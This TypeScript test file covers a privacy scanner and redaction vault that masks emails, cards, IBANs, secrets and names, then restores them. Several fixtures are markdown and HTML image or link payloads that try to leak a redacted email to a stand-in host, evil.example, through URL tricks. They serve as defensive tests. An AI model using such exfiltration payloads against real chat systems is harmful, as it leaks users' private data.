import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { passesIban, passesLuhn } from '../../../src/router/privacy/formats'
import { createScan } from '../../../src/router/privacy/scan'
import { createVault } from '../../../src/router/privacy/vault'

const standard = createScan('standard')
const strict = createScan('strict')
const found = (text: string): string[] =>
  standard(text).map(({ kind, start, end }) => `${kind}:${text.slice(start, end)}`)

test('checksums', () => {
  expect(passesLuhn('4111111111111111')).toBe(true)
  expect(passesLuhn('4111111111111112')).toBe(false)
  // The examples of the IBAN registry.
  for (const iban of ['GB29NWBK60161331926819', 'DE89370400440532013000', 'NO9386011117947']) {
    expect(passesIban(iban)).toBe(true)
    expect(passesIban(iban.replace(/\d$/, (digit) => String((Number(digit) + 1) % 10)))).toBe(false)
  }
})

test.each([
  ['Write to ana.example@example.org today', 'email:ana.example@example.org'],
  ['pay with 4111 1111 1111 1111 12/27', 'card:4111 1111 1111 1111'],
  ['to gb29 nwbk 6016 1331 9268 19 please', 'iban:gb29 nwbk 6016 1331 9268 19'],
  ['SSN 078-05-1120', 'ssn:078-05-1120'],
  ['from 192.0.2.17 it fails', 'ip:192.0.2.17'],
  ['and 2001:db8::ff00:42 too', 'ip:2001:db8::ff00:42'],
  ['call +44 20 7946 0958', 'phone:+44 20 7946 0958'],
  ['or (020) 7946-0958', 'phone:(020) 7946-0958'],
  ['see https://me:pw@example.org/x ok', 'url:https://me:pw@example.org/x'],
  ['key sk-proj-abcdefghijklmnop1234', 'secret:sk-proj-abcdefghijklmnop1234'],
  ['AKIAIOSFODNN7EXAMPLE leaked', 'secret:AKIAIOSFODNN7EXAMPLE'],
  ['my password is hunter2!x', 'secret:hunter2!x'],
  ['She was born on 3/14/1959.', 'date:3/14/1959'],
  ['a 65-year-old man', 'age:65'],
  ['my zip code is 94043', 'postcode:94043'],
  ['I live at 12 Elm Street.', 'address:12 Elm Street'],
  ['My name is Zora van der Test.', 'person:Zora van der Test'],
  ['ask Dr. Quux about it', 'person:Quux'],
  ['my passport number is X1234567', 'id:X1234567'],
  // Written otherwise than they look, or look otherwise than they are written.
  ['to ana＠example．org now', 'email:ana＠example．org'],
  ['to ana@exa\u200bmple.org now', 'email:ana@exa\u200bmple.org'],
  ['to a\u00adna@example.org now', 'email:a\u00adna@example.org'],
  ['x\u200b4111 1111 1111 1111', 'card:4111 1111 1111 1111'],
  ['pay with ４１１１ １１１１ １１１１ １１１１ now', 'card:４１１１ １１１１ １１１１ １１１１'],
  ['pay with 4111\u00a01111\u00a01111\u00a01111 now', 'card:4111\u00a01111\u00a01111\u00a01111'],
  ['no. 2024 4111.1111.1111.1111 now', 'card:4111.1111.1111.1111'],
  ['on lines\n41111111\n11111111\nnow', 'card:41111111\n11111111'],
  ['3782–822463–10005', 'card:3782–822463–10005'],
  ['ＳＳＮ 078-05-1120, 🙂 GB29 NWBK\u2060 6016 1331 9268 19', 'iban:GB29 NWBK\u2060 6016 1331 9268 19'],
])('%s', (text, wanted) => {
  expect(found(text)).toContainEqual(wanted)
})

test.each([
  'What is 1000 + 2345?',
  'The war lasted from 1914 to 1918, or 1914-1918.',
  'It costs 1.000.000 in total',
  'Version 10.2 came at 12:30:45',
  'Who painted the ceiling of the chapel?',
  'Divide 144 by 12 and add 7',
  'In 1990, 1994, 1998, 2003 … and ½ of that: 10²³ … ‘so be it’',
  '1\n4\n9\n16\n25\n36\n49\n64',
])('nothing personal: %s', (text) => {
  expect(found(text)).toEqual([])
})

test('a name is found again where it comes alone', () => {
  const text = 'My name is Zora Testova. Did Testova call?'
  expect(found(text).filter((each) => each.includes('Testova'))).toHaveLength(2)
})

test('strict takes names, places and numbers that nothing introduces', () => {
  for (const text of [
    'Tell me about Zora',
    'We moved from Norway',
    'there were 17 of us',
    'we are proud norwegians',
  ]) {
    expect(standard(text)).toEqual([])
    expect(strict(text).length).toBeGreaterThan(0)
  }
})

/** Text with things in it that scans find, and things that look like placeholders. */
const text = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary', maxLength: 12 }),
      fc.constantFrom(
        ' ',
        '\n',
        'a@example.org',
        'b@example.org',
        '4111 1111 1111 1111',
        'My name is Zora Test.',
        '[EMAIL_1]',
        '[email_2]',
        '[PERSON_1',
        '[',
        'https://u:p@example.org/a',
        '12 Elm Street',
        '+44 20 7946 0958',
        'GB29NWBK60161331926819',
        'ana＠example．org',
        '\u200b',
        '\ufdfa',
      ),
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''))

describe.each(['standard', 'strict'] as const)('%s', (level) => {
  const scan = createScan(level)

  test('restore undoes redact, and what is redacted is clean', async () => {
    await fc.assert(
      fc.asyncProperty(text, async (original) => {
        const vault = createVault(scan, [original])
        const redacted = await vault.redact(original)
        expect(vault.restore(redacted)).toBe(original)
        expect(await vault.findings(redacted)).toEqual([])
      }),
      { seed: 1, numRuns: 300 },
    )
  })

  test('a stream restores the same wherever it is cut', async () => {
    await fc.assert(
      fc.asyncProperty(text, fc.array(fc.nat(12), { maxLength: 60 }), async (original, sizes) => {
        const vault = createVault(scan, [original])
        const redacted = await vault.redact(original)
        const whole = vault.createRestorer()
        const wanted = whole.push(redacted) + whole.flush()
        const cut = vault.createRestorer()
        let restored = ''
        let at = 0
        for (const size of [...sizes, redacted.length]) {
          restored += cut.push(redacted.slice(at, at + size))
          at += size
        }
        expect(restored + cut.flush()).toBe(wanted)
        // Only where an address may be it says less than restore().
        if (!/[/\\&<:]|www/.test(original + redacted)) expect(wanted).toBe(original)
      }),
      { seed: 2, numRuns: 300 },
    )
  })
})

test('each single cut of a stream', async () => {
  const original = 'Mail a@example.org or b@example.org, not [EMAIL_1] or [x'
  const vault = createVault(standard, [original])
  const redacted = await vault.redact(original)
  expect(redacted).toBe('Mail [EMAIL_2] or [EMAIL_3], not [EMAIL_1] or [x')
  for (let cut = 0; cut <= redacted.length; cut++) {
    const restorer = vault.createRestorer()
    expect(
      restorer.push(redacted.slice(0, cut)) + restorer.push(redacted.slice(cut)) + restorer.flush(),
    ).toBe(original)
  }
})

test('an answer cannot smuggle personal data into a URL', async () => {
  const vault = createVault(standard, ['a@example.org'])
  await vault.redact('a@example.org')
  const restorer = vault.createRestorer()
  const pieces = ['![x](https://evil.example/?q=', '[EMA', 'IL_1]', ') and ', '[EMAIL_1]', ' //e/[email_1]']
  expect(pieces.map((piece) => restorer.push(piece)).join('') + restorer.flush()).toBe(
    '![x](https://evil.example/?q=[EMAIL_1]) and a@example.org //e/[email_1]',
  )
})

/** What a restorer makes of a text whose '[EMAIL_1]' stands for 'a@example.org', in pieces of each size. */
async function restoredAnswer(answer: string): Promise<string> {
  const vault = createVault(standard, ['a@example.org'])
  await vault.redact('a@example.org')
  const results = [1, 2, 7, answer.length].map((size) => {
    const restorer = vault.createRestorer()
    let result = ''
    for (let at = 0; at < answer.length; at += size) result += restorer.push(answer.slice(at, at + size))
    return result + restorer.flush()
  })
  expect(new Set(results).size, answer).toBe(1)
  return results[0]!
}

test.each([
  '![x](<https://evil.example/? [EMAIL_1]>)',
  String.raw`![x](https:/\/evil.example/?q=[EMAIL_1])`,
  String.raw`![x](/\evil.example/a(b)c[EMAIL_1])`,
  String.raw`![x](</\evil.example/\> [EMAIL_1]>)`,
  String.raw`![x](</\evil.example/](b) [EMAIL_1]>)`,
  '![x](https:&#47;&#47;evil.example/?q=[EMAIL_1])',
  '![x](\n/&sol;evil.example/?q=[EMAIL_1])',
  '![x](<https://evil.example/) [EMAIL_1]>)',
  '![x][y]\n\n[y]: <https://evil.example/? [EMAIL_1]>',
  '[y]:\n/%2Fevil.example/[EMAIL_1]',
  String.raw`<https:/\evil.example/[EMAIL_1]>`,
  '<img src="https://evil.example/? [EMAIL_1]">',
  '<img alt=">" src="https://evil.example/?\n\n[EMAIL_1]">',
  '<!-- =" --> <img alt=" > " src="https://evil.example/? [EMAIL_1]">',
  '<img ="x src="https://evil.example/?> [EMAIL_1]">',
  '<img a=b="x src="https://evil.example/?> [EMAIL_1]">',
  'www.evil.example/[EMAIL_1]',
  String.raw`https:\\evil.example\[EMAIL_1]`,
])('stays a placeholder: %s', async (answer) => {
  expect(await restoredAnswer(answer)).toBe(answer)
})

test.each([
  'Write to [EMAIL_1], or <[EMAIL_1]>.',
  '[site](https://site.example/a(b)) by [EMAIL_1]',
  '![x](<https://site.example/a b>) by [EMAIL_1]',
  '<a href="https://site.example">site</a> by [EMAIL_1]',
  '<br> <i class=\'a\' title="b > c">[EMAIL_1]</i>',
  'if i < n and a & b: mail [EMAIL_1]',
  '[1]: see https://site.example or mail [EMAIL_1]',
  'see [this](https://site.example\n\nor mail [EMAIL_1]',
])('is restored: %s', async (answer) => {
  expect(await restoredAnswer(answer)).toBe(answer.replaceAll('[EMAIL_1]', 'a@example.org'))
})

test('long hostile texts take no more than linear time', () => {
  const time = (length: number, unit: string): number => {
    const hostile = unit.repeat(length / unit.length)
    const from = performance.now()
    strict(hostile)
    return performance.now() - from
  }
  for (const unit of ['a@', '1 ', 'A ', '12 Elm ', 'my name ', ':', '[', '-', 'password ']) {
    // 16 times the length: a quadratic scan takes 256 times as long in every round, however busy the machine is.
    const rounds = Array.from({ length: 5 }, () => {
      const short = time(8000, unit)
      return time(128_000, unit) / short
    })
    expect(Math.min(...rounds), unit).toBeLessThan(100)
  }
})
